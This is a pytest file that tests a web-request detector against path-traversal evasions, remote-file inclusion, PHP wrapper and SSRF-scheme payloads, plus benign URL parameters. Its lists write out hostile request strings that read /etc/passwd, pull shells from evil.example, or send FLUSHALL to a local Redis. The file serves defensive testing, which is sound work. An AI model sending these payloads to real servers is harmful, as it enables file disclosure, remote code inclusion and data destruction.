"""Traversal and remote inclusion against the public evasion families (encodings, overlong UTF-8, %u forms,
fullwidth slashes, NUL bytes, Tomcat's ..;/, wrappers, SSRF schemes), and benign URL-valued parameters.
Payload shapes are the textbook ones (OWASP testing guide); none is taken from an evaluation corpus."""

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.audit.detections import inspect_request


def ids(target):
    return set(inspect_request(b"GET", target.encode()).ids)


TRAVERSAL = [
    "/dl?f=%252e%252e%252fetc%252fpasswd", "/dl?f=%25252e%25252e%25252fetc%25252fpasswd",
    "/dl?f=..%c0%af..%c0%afetc/passwd", "/dl?f=..%e0%80%af..%e0%80%afetc/passwd", "/dl?f=..%u2215..%u2215etc%u2215passwd",
    "/dl?f=..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd", "/dl?f=..%ef%bc%bc..%ef%bc%bcwindows%ef%bc%bcwin.ini",
    "/dl?f=..%00/..%00/etc/passwd", "/dl?f=..%2500/etc/passwd", "/dl?f=....//....//etc/passwd",
    "/static/..;/..;/etc/passwd", "/dl?f=.%2e/.%2e/.%2e/etc/passwd", "/dl?f=file:///etc/passwd",
    "/dl?f=php://filter/convert.base64-encode/resource=config", "/dl?f=netdoc:///etc/passwd",
    "/dl?f=%c0%2e%c0%2e/%c0%2e%c0%2e/etc/passwd", "/dl?f=..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config",
    "/dl?f=..///////..////..//////etc/passwd",
]
INCLUSION = {
    "rfi": ["/x?page=http://evil.example/shell.txt?", "/x?page=https://evil.example/c99.php",
            "/x?page=http://evil.example/x.txt%00", "/dl?f=%5c%5cevil.example%5cshare%5cx.php",
            "/dl?f=jar:http://evil.example/x.jar!/", "/dl?u=gopher://127.0.0.1:6379/_FLUSHALL",
            "/dl?u=dict://127.0.0.1:11211/stats", "/x?u=tftp://198.51.100.7/x", "/x?file=//evil.example/x.php",
            "/x?page=%2F%2F198.51.100.7%2Fx.txt%3F", "/x?u=GoPhEr%3A%2F%2F127.0.0.1%3A25%2F_HELO"],
    "php_injection": ["/dl?f=expect://id", "/dl?f=zip://uploads/a.jpg%23shell", "/dl?f=phar://uploads/a.jpg/x"],
}
BENIGN = [
    "/login?next=https://example.org/dashboard", "/go?url=https://bit.ly/3xYz",
    "/redirect?to=https://www.google.com/search?q=x", "/share?u=https://news.example.com/article.php?id=5",
    "/oauth/cb?redirect_uri=https://app.example.com/callback", "/img?src=https://cdn.example.com/a.png",
    "/feed?url=https://example.com/rss.xml", "/embed?url=https://www.youtube.com/watch?v=abc",
    "/x?src=//cdn.example.com/lib.js", "/x?next=//example.com/home", "/s?q=gopher+protocol",
    "/s?q=dict%3A%2F%2F+scheme+explained", "/s?q=jar+of+honey", "/x?return=%2Fhome",
]


@pytest.mark.parametrize("target", TRAVERSAL)
def test_traversal_evasions_are_found(target):
    assert "path_traversal" in ids(target)


@pytest.mark.parametrize("family,target", [(f, t) for f, ts in INCLUSION.items() for t in ts])
def test_inclusion_and_fetch_schemes_are_found(family, target):
    assert family in ids(target)


@pytest.mark.parametrize("target", BENIGN)
def test_url_valued_parameters_of_ordinary_sites_raise_nothing(target):
    assert ids(target) == set()
